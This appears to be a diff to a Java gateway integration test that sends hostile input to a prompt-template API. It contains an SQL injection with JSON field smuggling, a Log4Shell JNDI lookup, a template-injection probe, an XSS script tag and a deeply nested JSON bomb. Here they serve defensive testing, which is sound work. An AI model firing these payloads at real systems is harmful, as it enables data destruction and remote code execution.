@@ -86,7 +86,7 @@ class HostileInputThroughTheGatewayTest {
     void aCsvJustInsideTheLimitIsRenderedInPiecesNotRefusedByTheTemplateServicesOwnLimit() {
         String vendor = platform.vendorToken("near-" + UUID.randomUUID());
         String templateId = given().auth().oauth2(vendor).contentType(ContentType.JSON)
-                .body("{\"name\": \"Long copy\", \"promptText\": \"{product_name}: {description}\"}")
+                .body("{\"name\": \"Long copy\", \"promptText\": \"{product_name}: {description}\", \"variables\": [{\"name\": \"description\"}]}")
                 .when().post("/api/vendor/media/prompt-templates").then().statusCode(201).extract().path("id");
         // 10,000 rows of about 980 bytes: 9.8 MB, inside the upload limit; as one JSON render request it is over 10 MB
         StringBuilder csv = new StringBuilder("product_name,description\n");
@@ -130,7 +130,7 @@ class HostileInputThroughTheGatewayTest {
                 .body("{\"name\": \"Here\", \"promptText\": \"{product_name}\"}")
                 .when().post("/api/vendor/media/prompt-templates").then().statusCode(201).extract().header("Location");
         org.assertj.core.api.Assertions.assertThat(location)
-                .startsWith(io.restassured.RestAssured.baseURI + ":" + io.restassured.RestAssured.port + "/api/vendor/media/prompt-templates/");
+                .startsWith(platform.gatewayUrl() + "/api/vendor/media/prompt-templates/");
         given().auth().oauth2(vendor).when().get(location).then().statusCode(200).body("name", equalTo("Here"));
     }
 
@@ -193,11 +193,12 @@ class HostileInputThroughTheGatewayTest {
         String vendor = platform.vendorToken("inject-" + UUID.randomUUID());
         String name = "'; DROP TABLE prompt_templates; -- \", \"isPublic\": true, \"x\": \"";
         String id = given().auth().oauth2(vendor).contentType(ContentType.JSON)
-                .body(new io.vertx.core.json.JsonObject().put("name", name).put("promptText", "{product_name} ${jndi:ldap://x/a} {{7*7}}").encode())
+                .body(new io.vertx.core.json.JsonObject().put("name", name).put("promptText", "{product_name} on marble")
+                        .put("description", "${jndi:ldap://x/a} {{7*7}} <script>alert(1)</script>").encode())
                 .when().post("/api/vendor/media/prompt-templates").then().statusCode(201).extract().path("id");
         given().auth().oauth2(vendor).when().get("/api/vendor/media/prompt-templates/" + id).then().statusCode(200)
                 .body("name", equalTo(name)).body("isPublic", equalTo(false))
-                .body("promptText", equalTo("{product_name} ${jndi:ldap://x/a} {{7*7}}"));
+                .body("description", equalTo("${jndi:ldap://x/a} {{7*7}} <script>alert(1)</script>"));
         String deep = "[".repeat(5_000) + "]".repeat(5_000);
         given().auth().oauth2(vendor).contentType(ContentType.JSON)
                 .body("{\"name\": \"Deep\", \"promptText\": \"{product_name}\", \"parameters\": {\"model\": " + deep + "}}")
